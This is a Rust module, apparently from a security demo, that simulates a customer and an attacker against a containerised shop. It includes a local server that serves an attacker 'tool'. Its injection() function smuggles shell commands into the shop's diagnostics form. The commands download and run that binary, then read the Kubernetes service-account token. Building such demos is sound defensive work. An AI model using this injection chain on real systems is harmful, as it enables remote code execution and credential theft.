//! The people outside the pod: a customer, and an attacker with a file server.

use std::io::{self, BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::PathBuf;
use std::thread;
use std::time::{Duration, Instant};

/// How long the application may take to answer.
const ANSWER: Duration = Duration::from_secs(20);

/// Fetches a page of the shop.
///
/// # Errors
/// When the shop does not answer within 20 seconds, or not with 200.
pub(super) fn get(shop: SocketAddr, target: &str) -> io::Result<String> {
    let mut stream = TcpStream::connect_timeout(&shop, ANSWER)?;
    stream.set_read_timeout(Some(ANSWER))?;
    write!(
        stream,
        "GET {target} HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n"
    )?;
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer)?;
    let answer = String::from_utf8_lossy(&answer).into_owned();
    match answer.split_once("\r\n\r\n") {
        Some((head, body)) if head.contains(" 200 ") => Ok(body.to_owned()),
        _ => Err(io::Error::other(format!("unexpected answer: {answer}"))),
    }
}

/// Waits until the shop serves its health page.
///
/// # Errors
/// The last error, when it does not within 20 seconds.
pub(super) fn wait_until_open(shop: SocketAddr) -> io::Result<()> {
    let deadline = Instant::now() + ANSWER;
    loop {
        match get(shop, "/healthz") {
            Ok(_) => return Ok(()),
            Err(error) if Instant::now() > deadline => return Err(error),
            Err(_) => thread::sleep(Duration::from_millis(20)),
        }
    }
}

/// Serves one file to whoever asks, until the process ends.
///
/// # Errors
/// When no local port is free or the file cannot be read.
pub(super) fn serve_tool(tool: PathBuf) -> io::Result<SocketAddr> {
    let body = std::fs::read(tool)?;
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let address = listener.local_addr()?;
    thread::spawn(move || {
        for stream in listener.incoming() {
            // A client that goes away early is its own affair.
            let _ = stream.and_then(|stream| send(stream, &body));
        }
    });
    Ok(address)
}

fn send(mut stream: TcpStream, body: &[u8]) -> io::Result<()> {
    stream.set_read_timeout(Some(ANSWER))?;
    // To its end: closing with something unread would reset the connection.
    let mut request = BufReader::new(&stream);
    let mut line = String::new();
    while request.read_line(&mut line)? > 2 {
        line.clear();
    }
    write!(
        stream,
        "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )?;
    stream.write_all(body)
}

/// What the attacker writes into the shop's diagnostics form.
pub(super) fn injection(attacker: SocketAddr) -> String {
    let commands = [
        "fish.example".to_owned(),
        // An attacker wants to see what went wrong, and so does who reads the demo's output.
        "exec 2>&1".to_owned(),
        format!("/app/shop fetch {attacker} /tool /tmp/tool"),
        "chmod +x /tmp/tool".to_owned(),
        "/tmp/tool".to_owned(),
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token".to_owned(),
    ];
    commands.join("; ")
}

/// Percent-encodes a query value.
pub(super) fn encode(text: &str) -> String {
    text.bytes().fold(String::new(), |mut encoded, byte| {
        match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'.' | b'_' => {
                encoded.push(char::from(byte));
            }
            _ => encoded.push_str(&format!("%{byte:02X}")),
        }
        encoded
    })
}
